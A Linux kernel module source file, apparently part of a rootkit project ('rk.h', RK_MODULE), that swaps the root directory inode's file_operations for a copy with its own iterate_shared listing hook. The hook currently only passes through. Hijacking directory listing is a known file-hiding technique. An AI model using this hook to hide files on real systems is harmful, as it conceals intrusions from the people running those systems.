// SPDX-License-Identifier: GPL-2.0-only
/* Gives the root folder's inode a copy of its operations, with a function of its own for its listing. */
#include <linux/dcache.h>
#include <linux/fs.h>
#include <linux/fs_struct.h>
#include <linux/namei.h>

#include "rk.h"

static struct file_operations copy;
static const struct file_operations *original;
static struct path root;

static int iterate(struct file *file, struct dir_context *context)
{
	return original->iterate_shared(file, context);
}

static int on(void)
{
	struct inode *inode;
	int err = kern_path("/", LOOKUP_FOLLOW, &root);

	if (err)
		return err;
	inode = d_inode(root.dentry);
	original = inode->i_fop;
	copy = *original;
	copy.iterate_shared = iterate;
	WRITE_ONCE(inode->i_fop, &copy);
	return 0;
}

static void off(void)
{
	WRITE_ONCE(d_inode(root.dentry)->i_fop, original);
	path_put(&root);
	synchronize_rcu();
}

RK_MODULE(root_fops, on, off);
